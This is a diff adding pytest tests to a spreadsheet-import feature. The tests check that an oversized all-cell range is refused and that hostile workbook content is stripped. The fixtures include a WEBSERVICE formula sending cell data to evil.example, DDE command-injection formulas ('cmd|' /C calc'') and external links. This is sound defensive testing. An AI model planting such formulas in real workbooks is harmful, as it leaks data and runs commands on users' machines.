@@ -12,7 +12,12 @@ from typing import Any
 
 import pytest
 from openpyxl import Workbook, load_workbook
+from openpyxl.formatting.rule import FormulaRule
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
+from openpyxl.worksheet.formula import ArrayFormula
 
+from hostile import check_form
 from subsidy_rules.messages.message import LANGS, Lang
 from subsidy_rules.model.document import Clause, Document, Page, Source, Span
 from subsidy_rules.model.errors import ReviewError
@@ -255,6 +260,37 @@ def test_a_workbook_that_unpacks_without_end_is_refused() -> None:
             packed.writestr(f"xl/{n}", b"")
     with pytest.raises(ReviewError, match="larger"):
         read_book(out.getvalue(), "book.xlsx", lambda word: None)
+
+
+@pytest.mark.parametrize("tag", ["mergeCell", "x:mergeCell", "hyperlink"])
+def test_a_range_of_all_cells_is_refused(edition: Path, tag: str) -> None:
+    """Forty letters of the file would take minutes and gigabytes."""
+    spanning = f'<{tag} ref="A2:XFD1048576"/></worksheet>'.encode()
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(export_book(edition, None, "ja").data)) as ours, zipfile.ZipFile(out, "w") as packed:
+        for name in ours.namelist():
+            packed.writestr(name, ours.read(name).replace(b"</worksheet>", spanning))
+    with pytest.raises(ReviewError, match="larger"):
+        import_book(edition, out.getvalue(), "book.xlsx", SIGNED, run=here)
+
+
+def test_nothing_acts_in_the_answer(edition: Path) -> None:
+    book = load_workbook(io.BytesIO(filled(export_book(edition, None, "ja").data, "ja", {RATE: {"decision": "承認"}})))
+    sheet = book.worksheets[0]
+    sheet["AZ2"] = '=WEBSERVICE("http://evil.example/"&A2)'
+    sheet["AZ3"] = ArrayFormula("AZ3:AZ4", "=cmd|' /C calc'!A0")
+    sheet["C2"].hyperlink = "http://evil.example"
+    sheet.conditional_formatting.add("A1:B9", FormulaRule(formula=["cmd|'/c calc'!A0"]))
+    sheet.add_data_validation(DataValidation(type="custom", formula1="=WEBSERVICE(A1)", sqref="AZ9"))
+    book.defined_names["x"] = DefinedName("x", attr_text="[1]Sheet1!$A$1")
+    out = io.BytesIO()
+    book.save(out)
+    answer = import_book(edition, out.getvalue(), "book.xlsx", SIGNED, run=here).answer
+    check_form("xlsx", answer)
+    read = load_workbook(io.BytesIO(answer))
+    assert (list(read.defined_names), len(read.worksheets[0].conditional_formatting)) == ([], 0)
+    assert {one.type for one in read.worksheets[0].data_validations.dataValidation} == {"list"}
+    assert rule(edition, RATE).review.state == "approved"
 
 
 def test_a_process_that_fails_is_told_of_the_workbook() -> None:
